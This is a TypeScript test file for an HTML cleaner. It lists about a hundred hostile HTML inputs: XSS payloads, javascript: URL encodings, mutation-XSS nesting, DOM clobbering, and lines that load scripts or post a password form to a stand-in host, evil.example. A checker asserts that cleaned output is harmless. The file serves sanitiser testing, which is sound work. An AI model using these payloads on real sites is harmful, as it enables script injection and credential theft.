import assert from "node:assert/strict";
import { cleanHtml } from "./html-cleaner.ts";
import { ALLOWED_TAGS } from "./html-cleaner-rules.ts";

/** HTML that has fooled cleaners, one trick each. */
export const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/x>alert(1)</script>",
  "<script\u0000>alert(1)</script>",
  "<<script>alert(1);//<</script>",
  "<script>alert(1)",
  '"><script>alert(1)</script>',
  "<img src=x onerror=alert(1)>",
  "<img src=https://a.org/ onerror=alert(1)//",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert("1")</script>">',
  "<img src=javascript:alert(1)>",
  "<img src='data:text/html;base64,PHNjcmlwdD4='>",
  '<img src="https://a.org/&quot; onerror=&quot;alert(1)">',
  '<img srcset="javascript:alert(1) 1x" src="https://a.org/">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://a.org/1">x</a>',
  '<a href="https://a.org/" onmouseover="alert(1)">x</a>',
  `<a href='https://a.org/"onclick="alert(1)'>x</a>`,
  '<a href="https://a.org/<!--" title="--><img src=x onerror=alert(1)>">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://a.org/" ping="https://evil.example/">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><title><a id="</title><img src=x onerror=alert(1)>">',
  "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
  "<svg><animate attributeName=href values=javascript:alert(1) />",
  "<svg><use href='data:image/svg+xml,<svg/>'/></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>">',
  "<option><style></option></select><img src=x onerror=alert(1)></style>",
  "<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<pre>\n\n<code>&lt;img src=x onerror=alert(1)&gt;",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href=javascript:alert(1)?><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<applet code=x></applet><base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example/><input name=password><button>Sign in",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video src=x onerror=alert(1)></video><audio src onloadstart=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p style='position:fixed;inset:0;z-index:9999'>overlay</p>",
  "<span class='btn btn-primary flash-message'>x</span>",
  "<p id=app><a name=getElementById>clobbered</a></p>",
  "<b <script>alert(1)</script>0",
  "<p/onclick=alert(1)>x",
  "<p title='</p><script>alert(1)</script>'>x</p>",
  "<p onclick\u000b=alert(1)>x</p>",
  "<div\u000conclick=alert(1)>x</div>",
  "<table><td background=javascript:alert(1)>x<table><p><img src=x onerror=alert(1)>",
  "<table><style></table><img src=x onerror=alert(1)></style>",
  "</p><img src=x onerror=alert(1)></br><br/onclick=x>",
  "<a href=https://a.org/><table><a href=javascript:alert(1)>x",
  "<x-custom onfocus=alert(1) tabindex=0 autofocus>x</x-custom>",
  "<constructor></constructor><__proto__>x</__proto__><toString a=b>",
  '<img src="https://a.org/" __proto__=x constructor=y alt=z>',
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<p>\u202e<a href=https://evil.example/>gro.knab</a>",
];

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ["href", "rel", "class"],
  span: ["class"],
  p: ["class"],
  code: ["class"],
  ol: ["start", "reversed"],
  li: ["value"],
  img: ["src", "alt", "title", "width", "height"],
  td: ["colspan", "rowspan"],
  th: ["colspan", "rowspan"],
};

const TAG = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/g;

/** @throws {AssertionError} if the output contains anything that is not allowed */
export function assertHarmless(html: string) {
  const between = html.replace(
    TAG,
    (_tag, slash, name: string, rest: string) => {
      assert.ok(ALLOWED_TAGS.includes(name), name);
      assert.ok(slash === "" || rest === "");
      for (const [, attribute, value] of rest.matchAll(
        / ([a-z]+)="([^"]*)"/g,
      )) {
        assert.ok(ALLOWED_ATTRIBUTES[name]?.includes(attribute ?? ""), rest);
        if (attribute === "href" || attribute === "src") {
          assert.match(value ?? "", /^(?:https?:\/\/|mailto:)/i);
        }
      }
      return "";
    },
  );
  assert.doesNotMatch(between, /[<>]/);
  assert.equal(cleanHtml(html), html);
}
